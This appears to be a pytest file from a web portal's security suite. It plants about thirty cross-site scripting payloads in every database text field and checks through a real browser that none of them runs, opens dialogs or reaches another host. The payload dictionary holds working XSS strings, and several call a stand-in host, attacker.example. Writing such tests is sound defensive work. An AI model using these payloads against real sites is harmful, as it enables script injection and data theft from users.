"""Mark-up and scripts typed into every text of every record: a real browser shows them and runs none of them.

Each payload stands in every column of text of a portal of its own, past all forms. Then the pages are opened, and
whatever the browser would do beyond showing them is listened for: scripts, dialogs, requests to other hosts, breaches
of the content security policy, links that are scripts.
"""

from contextlib import closing
from html import unescape as unescape_html

import psycopg2
import pytest
from playwright.sync_api import Error

from tests.browser.conftest import EMAIL, serving, sign_in
from tests.databases import server
from tests.security.planting import plant

FOREIGN = "http://attacker.example"
RUN = "top.ran=1"
PAYLOADS = {
    "script": f"<script>{RUN}</script>",
    "script in capitals": f"<ScRiPt>{RUN}</sCrIpT>",
    "script after an end": f"</p></div></textarea></title></script><script>{RUN}</script>",
    "script of a host": f'<script src="{FOREIGN}/a.js"></script>',
    "script module": f'<script type="module">import "{FOREIGN}/a.js"</script>',
    "broken image": f'<img src=x onerror="{RUN}">',
    "image of a host": f'<img src="{FOREIGN}/a.png">',
    "drawing": f'<svg onload="{RUN}"><script>{RUN}</script></svg>',
    "animated drawing": f'<svg><animate onbegin="{RUN}" attributeName="x" dur="1s"></svg>',
    "formula": f'<math><maction actiontype="statusline" xlink:href="javascript:{RUN}">x</maction></math>',
    "details": f'<details open ontoggle="{RUN}">x</details>',
    "field with focus": f'<input autofocus onfocus="{RUN}">',
    "film": f'<video><source onerror="{RUN}"></video>',
    "body": f'<body onload="{RUN}">',
    "frame": f'<iframe srcdoc="<script>{RUN}</script>"></iframe>',
    "frame of a script": f'<iframe src="javascript:{RUN}"></iframe>',
    "frame of a host": f'<iframe src="{FOREIGN}/"></iframe>',
    "object": f'<object data="data:text/html,<script>{RUN}</script>"></object>',
    "link of a script": f"javascript:{RUN}",
    "link of a script, with blanks": f"java\nscript:{RUN}",
    "link of a document": f"data:text/html,<script>{RUN}</script>",
    "out of an attribute": f'" onmouseover="{RUN}" autofocus onfocus="{RUN}" x="',
    "out of an attribute, single": f"' onmouseover='{RUN}' autofocus onfocus='{RUN}' x='",
    "out of an attribute, bare": f"x onmouseover={RUN} onfocus={RUN} autofocus",
    "out of a script's text": f'";{RUN};//</script><script>{RUN}</script>',
    "style": f'<style>@import url("{FOREIGN}/a.css"); body {{ background: url({FOREIGN}/a.png) }}</style>',
    "style attribute": f'<p style="background: url({FOREIGN}/a.png)">x</p>',
    "other base": f'<base href="{FOREIGN}/"><meta http-equiv="refresh" content="0; url={FOREIGN}/">',
    "form": f'<form action="{FOREIGN}/"><button autofocus>x</button></form>',
    "request of htmx": f'<div hx-get="{FOREIGN}/" hx-trigger="load" hx-on::load="{RUN}">x</div>',
    "hidden by entities": f"&lt;script&gt;{RUN}&lt;/script&gt;&#60;img src=x onerror={RUN}&#62;",
    "template": "{{ constructor.constructor('top.ran=1')() }} ${top.ran=1} {% debug %}",
}
OF_EVERY_CHECK = ("script after an end", "out of an attribute", "link of a script")
LISTEN = """
document.addEventListener("securitypolicyviolation", event => {
    (window.violations ??= []).push(`${event.effectiveDirective} ${event.blockedURI} ${event.sample}`);
});
"""
LINKS = "links => links.map(link => link.getAttribute('href')).filter(href => /^\\s*(javascript|data):/i.test(href))"
PAGES = [
    "/", "/desk/", "/countries/KEN/", "/needs/", "/needs/NEED-RWA-01/", "/projects/", "/projects/PRJ-0050/",
    "/projects/PRJ-0050/edit/", "/partners/", "/partners/ORG-UNEP/", "/reforms/", "/reforms/17/", "/assessments/",
    "/assessments/NA-RWA-01/", "/exchange/", "/exchange/OFR-060/", "/exchange/unmet/", "/meas/cbd/", "/focal-points/",
    "/focal-points/FP-001/", "/agreements/", "/agreements/AGR-001/", "/decisions/", "/decisions/DEC-GC-23-1/",
    "/meetings/MTG-001/", "/groups/GRP-001/", "/duties/DUTY-001/", "/targets/TGT-001/", "/requests/", "/search/?q=ran",
]  # fmt: skip


@pytest.fixture(scope="module")
def own_portal(collected_static_files, tmp_path_factory):
    with serving(tmp_path_factory.mktemp("media")) as running:
        yield running


@pytest.fixture(scope="module")
def reader(browser, own_portal):
    """A browser in which somebody of the secretariat is signed in; the portal's address and database."""
    address, database = own_portal
    context = browser.new_context(base_url=address, storage_state=sign_in(browser, address, EMAIL))
    context.add_init_script(LISTEN)
    yield context, address, database
    context.close()


def plant_in(database, payload: str) -> None:
    with closing(psycopg2.connect(dbname=database.name, **server())) as connected, connected.cursor() as cursor:
        plant(cursor, payload)
        connected.commit()


def complaints(context, own: str, path: str) -> list[str]:
    """What the browser did on this page beyond showing it."""
    found, page = [], context.new_page()
    page.on("dialog", lambda dialog: (found.append("dialog"), dialog.dismiss()))
    page.on("pageerror", lambda error: found.append(f"error {error}"))
    page.on("request", lambda request: None if request.url.startswith(own) else found.append(request.url))
    try:
        answer = page.goto(path)
        assert answer.status == 200, f"{path}: {answer.status}"
        page.mouse.move(300, 300)
        found += page.evaluate("window.violations ?? []")
        found += ["a script ran"] * page.evaluate("'ran' in top")
        found += page.eval_on_selector_all("a[href]", LINKS)
    except Error as error:
        found.append(str(error))
    page.close()
    return [f"{path}: {complaint}" for complaint in found]


def read_all(reader, payload: str, pages=PAGES) -> list[str]:
    context, address, database = reader
    plant_in(database, payload)
    return [complaint for path in pages for complaint in complaints(context, address, path)]


def test_there_are_at_least_thirty_payloads(proof):
    proof("payloads in a browser", len(PAYLOADS))


@pytest.mark.parametrize("name", OF_EVERY_CHECK)
def test_a_payload_in_every_text_does_nothing(reader, name):
    assert read_all(reader, PAYLOADS[name]) == []


@pytest.mark.nightly
@pytest.mark.parametrize("name", sorted(set(PAYLOADS) - set(OF_EVERY_CHECK)))
def test_no_other_payload_does_anything(reader, name):
    assert read_all(reader, PAYLOADS[name]) == []


@pytest.mark.parametrize(("keeps_policy", "noticed"), [(True, "script-src"), (False, "a script ran")])
def test_teeth_text_that_is_not_escaped_is_noticed(reader, keeps_policy, noticed):
    """Under the policy as a breach of it, without the policy because the script runs."""

    def unescape(route):
        answer = route.fetch()
        headers = {name: text for name, text in answer.headers.items() if keeps_policy or "security-policy" not in name}
        route.fulfill(response=answer, headers=headers, body=unescape_html(answer.text()))

    context, _address, _database = reader
    context.route("**/partners/ORG-UNEP/", unescape)
    found = read_all(reader, PAYLOADS["script after an end"], ["/partners/ORG-UNEP/"])
    context.unroute("**/partners/ORG-UNEP/")
    assert any(noticed in complaint for complaint in found)
